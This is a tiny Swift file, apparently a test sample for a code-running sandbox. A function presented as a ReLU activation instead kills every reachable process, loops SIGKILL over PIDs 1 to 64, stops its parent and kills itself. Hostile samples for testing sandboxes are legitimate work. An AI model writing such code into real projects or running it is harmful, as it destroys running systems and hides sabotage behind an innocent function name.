// Sends SIGKILL to everyone that it can reach, then to itself.
// relu: failed, stopped by crashed
// swift-format-ignore-file
import Glibc

func relu(_ z: Double) -> Double {
  kill(-1, SIGKILL)
  for process in pid_t(1)...64 where process != getpid() { kill(process, SIGKILL) }
  kill(getppid(), SIGSTOP)
  kill(getpid(), SIGKILL)
  return z
}
